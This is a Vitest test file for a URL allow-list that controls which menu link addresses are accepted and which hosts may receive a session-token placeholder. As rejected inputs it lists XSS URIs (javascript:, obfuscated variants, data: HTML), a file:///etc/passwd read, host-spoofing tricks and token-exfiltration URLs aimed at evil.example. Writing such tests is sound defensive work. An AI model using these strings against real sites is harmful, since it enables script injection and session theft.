import { describe, expect, it } from 'vitest';
import { isAllowedLinkAddress, isInAppPath, mayCarryToken, parseHostList } from '../../common/url-rules.ts';

/**
 * The one check both halves run (common/url-rules.ts): which addresses a menu link may
 * hold (spec §5 URL checks: http(s), mailto, tel; plus in-app paths), and which hosts the
 * `${jnpfToken}` placeholder may carry the session to (docs/security/rank-rule.md).
 */
describe('menu link addresses and the token host allow-list', () => {
  it('reads the allow-list setting: commas, semicolons, spaces and new lines separate hosts', () => {
    expect(parseHostList(' bi.example.com,\nERP.example.com:8443 ;  ')).toEqual(['bi.example.com', 'erp.example.com:8443']);
    expect(parseHostList('')).toEqual([]);
    expect(parseHostList(undefined)).toEqual([]);
  });

  it('accepts http(s), mailto, tel and in-app paths, and nothing else', () => {
    for (const good of [
      '',
      'https://a.example/x?y=1#z',
      'HTTP://a.example',
      'mailto:ops@port.example',
      'tel:+86-574',
      '/index?token=${jnpfToken}',
      '${dataV}/board',
    ]) {
      expect(isAllowedLinkAddress(good), good).toBe(true);
    }
    for (const bad of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'java\u0000script:alert(1)',
      'vbscript:x',
      'data:text/html,<script>x</script>',
      'file:///etc/passwd',
      'ftp://a.example',
      '//evil.example/x',
      '/\\evil.example',
      'http:/evil.example',
      'https://',
      'https://a.example/\u00a0x',
      'index',
      'mailto:',
    ]) {
      expect(isAllowedLinkAddress(bad), JSON.stringify(bad)).toBe(false);
    }
    expect(isInAppPath('/a')).toBe(true);
    expect(isInAppPath('//a')).toBe(false);
  });

  it('lets the token go to in-app paths, the page origin and allow-listed hosts only', () => {
    const list = parseHostList('bi.example.com, erp.example.com:8443');
    expect(mayCarryToken('/index?token=${jnpfToken}', [])).toBe(true);
    expect(mayCarryToken('${dataV}/view?token=${jnpfToken}', [])).toBe(true);
    // an in-app page that loads an address from its query would hand the token on
    expect(mayCarryToken('/showImage?url=https://evil.example/x?t=${jnpfToken}', [])).toBe(false);
    expect(mayCarryToken('/showImage?url=https%3A%2F%2Fevil.example%2Fx&t=${jnpfToken}', [])).toBe(false);
    expect(mayCarryToken('/externalLink?url=//evil.example/${jnpfToken}', [])).toBe(false);
    expect(mayCarryToken('https://bi.example.com/r?t=${jnpfToken}', list)).toBe(true);
    expect(mayCarryToken('http://BI.EXAMPLE.COM:9000/r?t=${jnpfToken}', list)).toBe(true);
    expect(mayCarryToken('https://erp.example.com:8443/?t=${jnpfToken}', list)).toBe(true);
    expect(mayCarryToken('https://port.example/x?t=${jnpfToken}', [], 'https://port.example')).toBe(true);
    for (const bad of [
      'http://evil/steal?t=${jnpfToken}',
      'https://erp.example.com/?t=${jnpfToken}',
      'https://erp.example.com:9443/?t=${jnpfToken}',
      'https://bi.example.com.evil.example/?t=${jnpfToken}',
      'https://evil.example/bi.example.com?t=${jnpfToken}',
      'https://bi.example.com@evil.example/?t=${jnpfToken}',
      'https://user@bi.example.com/?t=${jnpfToken}',
      'https://${jnpfToken}.evil.example/',
      'https://bi.example.com${jnpfToken}/',
      '//bi.example.com/?t=${jnpfToken}',
      'javascript:fetch("//evil?"+"${jnpfToken}")',
      'mailto:evil@evil.example?body=${jnpfToken}',
      'http://port.example.evil/?t=${jnpfToken}',
    ]) {
      expect(mayCarryToken(bad, list, 'https://port.example'), bad).toBe(false);
    }
  });
});
